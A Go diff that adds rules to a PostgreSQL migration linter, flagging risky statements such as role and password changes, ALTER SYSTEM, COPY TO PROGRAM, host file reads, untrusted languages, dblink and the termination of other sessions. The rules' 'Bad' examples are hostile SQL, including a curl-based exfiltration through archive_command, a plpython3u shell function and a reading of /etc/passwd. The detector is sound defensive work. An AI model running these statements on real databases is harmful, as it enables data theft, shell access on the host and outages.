@@ -554,6 +554,84 @@ var catalog = []Rule{
 		Why:        "Risk: caution; dangerous when the parent has a DEFAULT partition, which is scanned under ACCESS EXCLUSIVE for rows that belong to the new partition. CREATE TABLE … PARTITION OF takes ACCESS EXCLUSIVE on the parent, blocking every query on the whole partitioned table while it waits and runs.",
 		Bad:        "CREATE TABLE events_2026 PARTITION OF events FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');",
 		Good:       "CREATE TABLE events_2026 (LIKE events INCLUDING ALL);\nALTER TABLE events ATTACH PARTITION events_2026 FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');"},
+	// Beyond risk-rules.md §4: statements that reach beyond the schema, to roles, the server and its host
+	// (check_server.go). A migration runs with a highly privileged role; what it does here it does with
+	// that role's authority.
+	{ID: "role-privilege-change", Risk: Caution, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "CREATE/ALTER/DROP ROLE or USER, GRANT/REVOKE of role membership, ALTER ROLE … SET, ALTER DEFAULT PRIVILEGES FOR ROLE, REASSIGN/DROP OWNED",
+		Suggestion: "manage roles, logins, passwords and memberships in the server's provisioning (Terraform, Ansible, the cloud console) that a DBA owns, with passwords from a secret store; a migration should only GRANT privileges on its own objects to roles that already exist",
+		Why: "Risk: caution for an ordinary role, membership or per-role setting; dangerous for SUPERUSER, CREATEROLE, BYPASSRLS or REPLICATION, " +
+			"a password set on (or removed from) a role the migration did not create, renaming or dropping such a role, REASSIGN/DROP OWNED, " +
+			"membership in a predefined pg_* role (pg_execute_server_program, pg_read_server_files, pg_write_server_files, pg_signal_backend, pg_read_all_data, …) " +
+			"or a known administrator role (postgres, rds_superuser, azure_pg_admin, cloudsqlsuperuser, …), and ALTER ROLE … SET of a setting that loads libraries or switches the role. " +
+			"A superuser or a pg_execute_server_program member runs shell commands on the database host; BYPASSRLS reads every row past row-level security; " +
+			"a new password for an existing role hands its logins to whoever wrote the migration.",
+		Bad:  "ALTER ROLE postgres PASSWORD 'pwned';",
+		Good: "GRANT SELECT ON users TO app_ro;",
+		Notes: "Also judged inside DO blocks and function bodies, whose statements the parser keeps as text: each such statement is parsed on its own. " +
+			"A password or role created in the same migration is not an existing role's."},
+	{ID: "alter-database", Risk: Caution, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "ALTER DATABASE … SET/RESET, OWNER TO, RENAME TO, CONNECTION LIMIT, ALLOW_CONNECTIONS, IS_TEMPLATE, SET TABLESPACE",
+		Suggestion: "set the database's owner, name, connection options and defaults in the server's provisioning, reviewed by a DBA; a migration that needs a setting uses SET LOCAL for its own transaction",
+		Why: "Risk: caution for SET/RESET of an ordinary setting, which changes every new session of every application that connects; dangerous for OWNER TO (the new owner controls the database and can drop it), " +
+			"RENAME TO (every connection string that names it breaks), CONNECTION LIMIT, ALLOW_CONNECTIONS and IS_TEMPLATE (they can lock the application out), " +
+			"SET TABLESPACE (copies the whole database and needs it idle) and settings that load libraries or switch the role (session_preload_libraries, role, session_authorization).",
+		Bad:  "ALTER DATABASE app OWNER TO intruder;",
+		Good: "SET LOCAL work_mem = '256MB';"},
+	{ID: "server-program", Risk: Dangerous, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "COPY … TO/FROM PROGRAM, or a file_fdw foreign table with a program option: a shell command run by the database server",
+		Suggestion: "move data through the client instead: COPY … FROM STDIN / TO STDOUT (psql's \\copy), or a job outside the migration",
+		Why: "Risk: dangerous. The command runs on the database host as the server's operating-system user, which owns the data directory: " +
+			"it can read or change every database's files and the server's configuration, open a shell for an attacker, or stop the server. Whatever the string says runs.",
+		Bad:  "COPY (SELECT 1) TO PROGRAM 'cat >/dev/null';",
+		Good: "COPY users (id, email) FROM STDIN;"},
+	{ID: "server-file-access", Risk: Dangerous, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "a file of the database host read or written: COPY … TO/FROM '<file>', pg_read_file, pg_read_binary_file, pg_ls_dir, pg_stat_file, lo_import, lo_export, pg_file_write, CREATE EXTENSION adminpack or file_fdw, a file_fdw foreign table",
+		Suggestion: "move data through the client: COPY … FROM STDIN / TO STDOUT (psql's \\copy) or INSERT; read settings with current_setting(); leave the host's files out of migrations",
+		Why: "Risk: dangerous. These act on files of the database host with the server's operating-system user: pg_hba.conf, postgresql.auto.conf, the data and key files of every database, /etc/passwd. " +
+			"Reading one copies secrets into a table the application (and the pull request's author) can read; writing one can plant configuration or a library the server loads at its next start. " +
+			"COPY … FROM STDIN and TO STDOUT do not trigger.",
+		Bad:  "COPY users FROM '/etc/passwd';",
+		Good: "COPY users (id, email) FROM STDIN;",
+		Notes: "Calls are found anywhere in a statement (SELECT, views, defaults) and by name in the text of DO blocks and function bodies; " +
+			"GRANT EXECUTE on one of these functions triggers too."},
+	{ID: "alter-system", Risk: Dangerous, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "ALTER SYSTEM, or a call that reconfigures or controls the whole server: pg_reload_conf, pg_rotate_logfile, pg_promote, pg_switch_wal, replication slots, backup and WAL replay control",
+		Suggestion: "change server configuration in its provisioning (postgresql.conf under configuration management, the cloud provider's parameter group), reviewed by a DBA; a migration that needs a setting uses SET LOCAL",
+		Why: "Risk: dangerous. ALTER SYSTEM writes postgresql.auto.conf for every database of the server and survives restarts: shared_preload_libraries and archive_command run code as the server's operating-system user, " +
+			"listen_addresses and ssl change who can connect. pg_reload_conf applies such changes at once; pg_promote splits a standby from its primary; " +
+			"a replication slot left behind keeps WAL until the disk fills. None of these belongs to one application's schema.",
+		Bad:  "ALTER SYSTEM SET archive_command = 'curl -d @%p https://example.com';",
+		Good: "SET LOCAL statement_timeout = '5min';"},
+	{ID: "untrusted-code", Risk: Dangerous, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "native or unsandboxed code: CREATE EXTENSION/LANGUAGE plpython3u, plperlu, pltclu …, CREATE LANGUAGE … HANDLER, CREATE FUNCTION … LANGUAGE c, internal or an untrusted language, DO in an untrusted language, LOAD",
+		Suggestion: "write functions in a trusted language (plpgsql, sql, plperl, plv8); a native extension is installed by a DBA from a reviewed package, then enabled with CREATE EXTENSION",
+		Why: "Risk: dangerous. Untrusted languages and C functions run inside the server process as its operating-system user, without a sandbox: " +
+			"they open files and sockets, start processes, and a bug crashes every session. LANGUAGE internal exposes any built-in C function under a new name, escaping checks by name.",
+		Bad:  "CREATE FUNCTION sh(cmd text) RETURNS text LANGUAGE plpython3u AS $$ import subprocess; return subprocess.getoutput(cmd) $$;",
+		Good: "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$;"},
+	{ID: "foreign-connection", Risk: Caution, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "a connection from the database to another host: dblink calls, CREATE EXTENSION dblink/postgres_fdw (or another network FDW), CREATE SERVER, USER MAPPING, IMPORT FOREIGN SCHEMA, CREATE SUBSCRIPTION",
+		Suggestion: "set up foreign servers, user mappings and subscriptions in infrastructure code with credentials from a secret store; move data between databases with a job outside the migration",
+		Why: "Risk: caution for installing an extension, a foreign server, a user mapping without a password or a foreign schema; dangerous for dblink calls (the migration runs SQL on, or sends data to, a host its text names), " +
+			"a user mapping with a password (a credential committed to the repository) and CREATE SUBSCRIPTION (it connects out and writes replicated rows into local tables). " +
+			"The connection leaves from the database host, inside the network perimeter, and reaches hosts the pull request's author cannot.",
+		Bad:  "SELECT dblink_exec('host=10.0.0.5 user=postgres', 'DROP TABLE users');",
+		Good: "CREATE EXTENSION IF NOT EXISTS pgcrypto;"},
+	{ID: "other-sessions", Risk: Dangerous, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "pg_terminate_backend / pg_cancel_backend: the migration ends or cancels other sessions",
+		Suggestion: "set lock_timeout so that the migration gives up and retries instead of killing what blocks it; a DBA ends sessions by hand when it must happen",
+		Why: "Risk: dangerous. The application's transactions roll back and its connections drop; with a query over pg_stat_activity every session of the server goes, a DBA's and replication's too. " +
+			"A call on the migration's own session, pg_terminate_backend(pg_backend_pid()), does not trigger.",
+		Bad:  "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid();",
+		Good: "SET lock_timeout = '2s';"},
+	{ID: "switch-role", Risk: Caution, Lock: "", Rewrite: false, Scan: false,
+		Summary:    "SET ROLE, SET SESSION AUTHORIZATION, or set_config('role' | 'session_authorization', …): the statements after it run as another role",
+		Suggestion: "run the migration as the role that should own its objects (the migration tool's connection settings); to hand over an object, ALTER … OWNER TO its owner role",
+		Why: "Risk: caution for SET ROLE to an ordinary role (what follows runs with that role's privileges and creates objects it owns); dangerous for SET SESSION AUTHORIZATION, " +
+			"which only a superuser may run and which lets the migration act as any role, and for SET ROLE to a pg_* or administrator role (postgres, rds_superuser, …). RESET ROLE and SET ROLE NONE do not trigger.",
+		Bad:  "SET SESSION AUTHORIZATION postgres;",
+		Good: "RESET ROLE;"},
 	{ID: "unqualified-name", Risk: Safe, Lock: "", Rewrite: false, Scan: false,
 		Summary:    "table names without schema",
 		Suggestion: "schema.table",
